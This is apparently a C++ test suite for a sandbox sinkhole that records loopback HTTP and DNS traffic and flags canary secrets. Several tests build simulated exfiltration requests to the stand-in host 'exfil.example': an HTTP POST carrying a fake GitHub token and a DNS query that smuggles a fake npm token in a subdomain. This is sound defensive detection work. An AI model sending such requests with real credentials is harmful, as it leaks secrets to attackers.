// The Sinkhole on the host's loopback: recording, replies, and the bounds on hostile clients.
#include "sandbox/decoy/canary_set.h"
#include "sandbox/net/endpoint.h"
#include "sandbox/net/listeners.h"
#include "sandbox/net/sinkhole.h"
#include "sandbox_net_support.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <doctest/doctest.h>

using namespace assay::sandbox;
using namespace sandbox_net_test;

namespace {

int connect_loopback(int port, int type = SOCK_STREAM) {
  int fd = ::socket(AF_INET, type | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  REQUIRE(::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0);
  return fd;
}

void send_all(int fd, const std::string& bytes) {
  REQUIRE(::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(bytes.size()));
}

// Everything the peer sends until it closes, or "" after `seconds` of silence.
std::string read_until_closed(int fd, double seconds = 5) {
  std::string out;
  char buffer[4096];
  for (;;) {
    pollfd p{fd, POLLIN, 0};
    if (::poll(&p, 1, static_cast<int>(seconds * 1000)) <= 0) return out;
    ssize_t n = ::recv(fd, buffer, sizeof buffer, 0);
    if (n <= 0) return out;
    out.append(buffer, static_cast<std::size_t>(n));
  }
}

bool closed_by_peer(int fd) {
  pollfd p{fd, POLLIN, 0};
  if (::poll(&p, 1, 2000) <= 0) return false;
  char c;
  return ::recv(fd, &c, 1, MSG_DONTWAIT) <= 0;
}

}  // namespace

TEST_SUITE("sandbox net sinkhole") {
  TEST_CASE("an HTTP POST carrying a canary is recorded, answered, and the canary named") {
    CanarySet canaries = CanarySet::generate();
    EventLog log;
    SinkholeOptions options;
    options.canaries = &canaries;
    Sinkhole sinkhole(log, options);
    int listener = open_tcp_listener(0, 4);
    REQUIRE(listener >= 0);
    const int port = local_endpoint(listener).port;
    sinkhole.add_tcp_listener(listener, port);
    sinkhole.start();

    int client = connect_loopback(port);
    const std::string body = "token=" + canaries.value("env-GITHUB_TOKEN");
    const std::string request = "POST /collect HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: " +
                                std::to_string(body.size()) + "\r\n\r\n" + body;
    send_all(client, request);
    CHECK(read_until_closed(client).rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
    ::close(client);
    sinkhole.stop();

    auto events = log.snapshot();
    const std::string where = "127.0.0.1 " + std::to_string(port) + " tcp";
    REQUIRE(events.size() == 3);
    CHECK(describe(events[0]) == "sinkhole_connection " + where);
    CHECK(describe(events[1]) == "sinkhole_data " + where + " | http POST /collect HTTP/1.1 host=exfil.example");
    CHECK(events[1].data == request);
    CHECK(describe(events[2]) == "canary_seen " + where + " | sinkhole | canary=env-GITHUB_TOKEN");
    CHECK(events[2].data.empty());
    CHECK(events[0].pid == 0);
  }

  TEST_CASE("a silent or trickling client is cut off at the read deadline") {
    EventLog log;
    SinkholeOptions options;
    options.read_deadline_seconds = 0.3;
    Sinkhole sinkhole(log, options);
    int listener = open_tcp_listener(0, 4);
    const int port = local_endpoint(listener).port;
    sinkhole.add_tcp_listener(listener, port);
    sinkhole.start();
    int client = connect_loopback(port);
    send_all(client, "G");
    auto start = std::chrono::steady_clock::now();
    CHECK(closed_by_peer(client));
    double waited = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    CHECK(waited >= 0.2);
    CHECK(waited < 1.5);
    ::close(client);
    sinkhole.stop();
    auto events = log.snapshot();
    REQUIRE(events.size() == 2);
    CHECK(events[1].kind == EventKind::sinkhole_data);
    CHECK(events[1].data == "G");
  }

  TEST_CASE("a flood of connections keeps at most the configured number open, closing the oldest") {
    EventLog log;
    SinkholeOptions options;
    options.max_open_connections = 4;
    options.read_deadline_seconds = 30;
    Sinkhole sinkhole(log, options);
    int listener = open_tcp_listener(0, 4);
    const int port = local_endpoint(listener).port;
    sinkhole.add_tcp_listener(listener, port);
    sinkhole.start();
    std::vector<int> clients;
    for (int i = 0; i < 12; ++i) {
      clients.push_back(connect_loopback(port));
      send_all(clients.back(), "hello " + std::to_string(i));
      wait_for_events(log, [&](const auto& e) { return count_kind(e, EventKind::sinkhole_connection) == clients.size(); });
    }
    for (int i = 0; i < 8; ++i) CHECK(closed_by_peer(clients[i]));
    auto events = log.snapshot();
    CHECK(count_kind(events, EventKind::sinkhole_connection) == 12);
    CHECK(count_kind(events, EventKind::sinkhole_data) == 8);
    sinkhole.stop();  // records the four still open
    CHECK(count_kind(log.snapshot(), EventKind::sinkhole_data) == 12);
    for (int fd : clients) ::close(fd);
  }

  TEST_CASE("DNS over loopback: the name is recorded and answered with the sinkhole address") {
    CanarySet canaries = CanarySet::generate();
    EventLog log;
    SinkholeOptions options;
    options.canaries = &canaries;
    Sinkhole sinkhole(log, options);
    int udp = open_udp_socket(0, 4);
    REQUIRE(udp >= 0);
    const int port = local_endpoint(udp).port;
    sinkhole.add_dns_socket(udp);
    sinkhole.start();

    int client = connect_loopback(port, SOCK_DGRAM);
    const std::string secret = canaries.value("env-NPM_TOKEN");
    const std::string query = std::string("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12) +
                              static_cast<char>(secret.size()) + secret + "\x05" "exfil" "\x07" "example" +
                              std::string("\x00\x00\x01\x00\x01", 5);
    send_all(client, query);
    char reply[512];
    pollfd p{client, POLLIN, 0};
    REQUIRE(::poll(&p, 1, 3000) == 1);
    ssize_t n = ::recv(client, reply, sizeof reply, 0);
    REQUIRE(n == static_cast<ssize_t>(query.size() + 16));
    CHECK(std::string(reply + n - 4, 4) == std::string("\xc6\x12\x00\x01", 4));
    CHECK(std::string(reply, 2) == "\x12\x34");

    send_all(client, "not dns");
    wait_for_events(log, [](const auto& e) { return e.size() >= 3; });
    ::close(client);
    sinkhole.stop();
    auto events = log.snapshot();
    const std::string where = "127.0.0.1 " + std::to_string(port) + " udp";
    REQUIRE(events.size() == 3);
    CHECK(describe(events[0]) == "dns_query " + where + " | name=" + secret + ".exfil.example | A");
    CHECK(describe(events[1]) == "canary_seen " + where + " | name=" + secret + ".exfil.example | dns | canary=env-NPM_TOKEN");
    CHECK(describe(events[2]) == "dns_query " + where + " | malformed");
  }

  TEST_CASE("sockets added after stop are closed, and stop is idempotent") {
    EventLog log;
    Sinkhole sinkhole(log, {});
    sinkhole.start();
    sinkhole.stop();
    int listener = open_tcp_listener(0, 4);
    sinkhole.add_tcp_listener(listener, 0);
    CHECK(::fcntl(listener, F_GETFD) == -1);
    sinkhole.stop();
    CHECK(log.snapshot().empty());
  }
}
